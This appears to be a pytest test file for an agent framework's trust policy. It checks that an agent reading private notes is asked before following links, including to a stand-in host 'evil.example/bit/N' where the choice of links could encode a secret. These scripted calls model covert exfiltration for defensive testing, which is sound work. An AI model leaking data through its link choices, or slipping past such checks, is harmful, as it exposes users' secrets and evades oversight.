"""Ways round the policy: addresses without a scheme, and a secret that is told by the choice of links."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from agentorchestra.core.content import Source
from agentorchestra.core.spec import Question
from agentorchestra.runtime.results import ToolResult
from agentorchestra.tea.calling.tool import Tool, tool
from agentorchestra.testing import ScriptedModel, call, decide
from agentorchestra.trust.addresses import links_within
from agentorchestra.workspace import Workspace

SITE = "http://evil.example"
LIST = f"{SITE}/list"
PAGES = "\n".join(f"{SITE}/bit/{n}" for n in range(256))


@tool(effect=("read", "network"))
async def page(url: str) -> ToolResult:
    """Read a page."""
    return ToolResult(content=PAGES if url == LIST else "a page", sources=(Source(kind="web", ref=url),))


@tool(effect=("read", "network"), name="search_engine_mine")
async def engine(query: str) -> str:
    """Ask what the framework's search asks."""
    return PAGES


@tool(effect=("read", "network"))
async def feed() -> str:
    """Read the feed."""
    return PAGES


@tool(effect="read")
async def vault() -> str:
    """Read the user's notes."""
    return "codeword: swordfish"


@tool(effect=("read", "network"))
async def news() -> str:
    """Read the news."""
    return "see www.news.example/today and more.news.example/full?id=7 (or docs.example/a_(b))."


@tool(effect="read")
async def copies() -> ToolResult:
    """Search a copy of pages; of the paths that it names all but the first lead to no address."""
    rows = [{"address": f"{SITE}/bit/1", "words": f"{SITE}/bit/2"}, {"address": f"{SITE}/bit/3"}]
    wrong = (("0", "none"), ("2", "address"), ("-1", "address"), ("one",), ("0",), (), ("0", "address", "0"))
    return ToolResult(content=rows, links=(("0", "address"), *wrong))


TOOLS: list[Tool[..., Any]] = [page, engine, feed, vault, news, copies]


def reads(*numbers: int) -> list[Any]:
    """Follow these links of the list."""
    return [call("page", url=f"{SITE}/bit/{n}") for n in numbers]


async def asked(folder: Path, *calls: Any, task: str = "Look around.", files: Sequence[Path] = ()) -> list[str]:
    """The addresses that were asked about in a run with these decisions; every answer is no."""
    found: list[str] = []

    async def asker(question: Question) -> bool:
        arguments: Any = question.details["arguments"]
        found.append(arguments["url"])
        return False

    decisions = [decide(calls=one if isinstance(one, list) else [one]) for one in calls]
    scripted = ScriptedModel([*decisions, decide(calls=[call("done", answer="done")])])
    async with Workspace(folder / "ws", tools=TOOLS, asker=asker) as ws:
        await ws.run(task, model=scripted, system="react", max_steps=40, files=files)
    return found


@pytest.mark.sampled(3)
@pytest.mark.parametrize(
    "url",
    [
        "https://www.news.example/today",
        "http://www.news.example/today",
        "www.news.example/today",
        "https://more.news.example/full?id=7",
        "https://docs.example/a_(b)",
    ],
)
async def test_an_address_received_without_a_scheme_is_a_received_link(url: str, tmp_path: Path) -> None:
    assert await asked(tmp_path, call("news"), call("page", url=url), task="What is new?") == []


@pytest.mark.sampled(2)
@pytest.mark.parametrize(
    "url", ["https://www.news.example/today?secret", "https://news.example/today", "http://ww.news.example/today"]
)
async def test_another_address_than_the_received_one_is_asked_about(url: str, tmp_path: Path) -> None:
    assert await asked(tmp_path, call("news"), call("page", url=url), task="What is new?") == [url]


async def test_of_a_tool_without_a_network_only_the_addresses_that_it_names_are_received(tmp_path: Path) -> None:
    assert await asked(tmp_path, call("copies"), reads(1, 2, 3)) == [f"{SITE}/bit/2", f"{SITE}/bit/3"]


def test_what_is_no_address_without_a_scheme() -> None:
    words = "ann@www.corp.example and/or 3.5/4, e.g. this; ../a.b/c x/www.site.org/y http://a.example/www.b.example"
    assert links_within([words]) == {"http://a.example/www.b.example"}


async def test_links_on_a_host_that_the_user_named_do_not_count(tmp_path: Path) -> None:
    found = await asked(tmp_path, call("vault"), call("page", url=LIST), *reads(*range(8)), task=f"Read {LIST}.")
    assert found == []


async def test_the_sixth_is_asked_about(tmp_path: Path) -> None:
    found = await asked(tmp_path, call("vault"), call("feed"), *reads(0, 1, 2, 3, 4, 5, 6))
    assert found == [f"{SITE}/bit/5", f"{SITE}/bit/6"]


async def test_those_read_before_the_private_content_count_too(tmp_path: Path) -> None:
    found = await asked(tmp_path, call("feed"), *reads(0, 1, 2, 3, 4, 5), call("vault"), *reads(6))
    assert found == [f"{SITE}/bit/6"]


async def test_without_private_content_nobody_is_asked(tmp_path: Path) -> None:
    assert await asked(tmp_path, call("feed"), *reads(*range(9))) == []


async def test_files_of_the_task_are_private(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("codeword: swordfish")
    found = await asked(tmp_path, call("feed"), *reads(*range(6)), files=[tmp_path / "notes.txt"])
    assert found == [f"{SITE}/bit/5"]


async def test_the_same_address_counts_once(tmp_path: Path) -> None:
    found = await asked(tmp_path, call("vault"), call("feed"), *reads(0, 1, 2, 3, 4, 4, 0, 1, 2))
    assert found == []


async def test_calls_of_one_decision_are_counted_one_by_one(tmp_path: Path) -> None:
    found = await asked(tmp_path, call("vault"), call("feed"), reads(*range(7)))
    assert len(found) == 2


async def test_links_that_the_own_search_found_do_not_count(tmp_path: Path) -> None:
    found = await asked(tmp_path, call("vault"), call("search_engine_mine", query="x"), *reads(*range(9)))
    assert found == []


async def test_a_run_that_goes_on_in_another_process_counts_on(tmp_path: Path) -> None:
    calls = [call("vault"), call("feed"), *reads(*range(7))]
    async with Workspace(tmp_path / "ws", tools=TOOLS) as ws:
        waiting = await ws.run(
            "Look around.",
            model=ScriptedModel([decide(calls=[one]) for one in calls[:8]]),
            system="react",
            max_steps=40,
        )
        (question,) = waiting.questions
        assert question.details["arguments"] == {"url": f"{SITE}/bit/5"}
        await ws.approve(waiting.run_id)
    rest = ScriptedModel([decide(calls=[one]) for one in calls[8:9]])
    async with Workspace(tmp_path / "ws", tools=TOOLS, models={"scripted": rest}) as ws:
        again = await ws.resume(waiting.run_id)
        (question,) = again.questions
        assert question.details["arguments"] == {"url": f"{SITE}/bit/6"}
